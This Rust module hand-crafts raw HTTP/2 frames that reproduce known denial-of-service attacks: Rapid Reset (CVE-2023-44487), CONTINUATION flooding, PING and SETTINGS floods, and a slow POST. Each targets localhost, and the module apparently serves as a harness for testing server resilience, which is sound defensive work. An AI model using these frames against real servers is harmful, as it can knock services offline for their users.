//! Frames of HTTP/2 (RFC 9113), written by hand: no library sends what is sent here.

/// What a client begins with, and its empty SETTINGS.
pub fn preface() -> Vec<u8> {
    let settings = frame(SETTINGS, 0, 0, &[]);
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &settings].concat()
}

/// `GET /`, and its end in the same breath (CVE-2023-44487).
pub fn request_and_reset(n: u32) -> Vec<u8> {
    let stream = 2 * n + 1;
    let headers = frame(HEADERS, END_STREAM | END_HEADERS, stream, &get());
    let cancel = 8_u32.to_be_bytes();
    [headers, frame(RST_STREAM, 0, stream, &cancel)].concat()
}

/// The beginning of a request, whose headers do not end with it.
pub fn open_headers() -> Vec<u8> {
    frame(HEADERS, END_STREAM, 1, &get())
}

/// More of those headers, and still not the end (VU#421644).
pub fn continuation(_: u32) -> Vec<u8> {
    // Literal, without indexing: "a: b".
    let header = [0, 1, b'a', 1, b'b'];
    frame(CONTINUATION, 0, 1, &header.repeat(1_000))
}

/// Asks for an answer (CVE-2019-9512).
pub fn ping(n: u32) -> Vec<u8> {
    frame(PING, 0, 0, &u64::from(n).to_be_bytes())
}

/// Asks for an answer too (CVE-2019-9515).
pub fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[])
}

/// A request with a body that is on its way for ever: `POST /`, a byte of it.
pub fn slow_post() -> Vec<u8> {
    let headers = [&[0x83][..], &get()[1..]].concat();
    let headers = frame(HEADERS, END_HEADERS, 1, &headers);
    [headers, frame(DATA, 0, 1, b"x")].concat()
}

/// `:method GET`, `:scheme https`, `:path /`, `:authority localhost`, by the static table (RFC 7541).
fn get() -> Vec<u8> {
    [&[0x82, 0x87, 0x84, 0x41, 9][..], b"localhost"].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
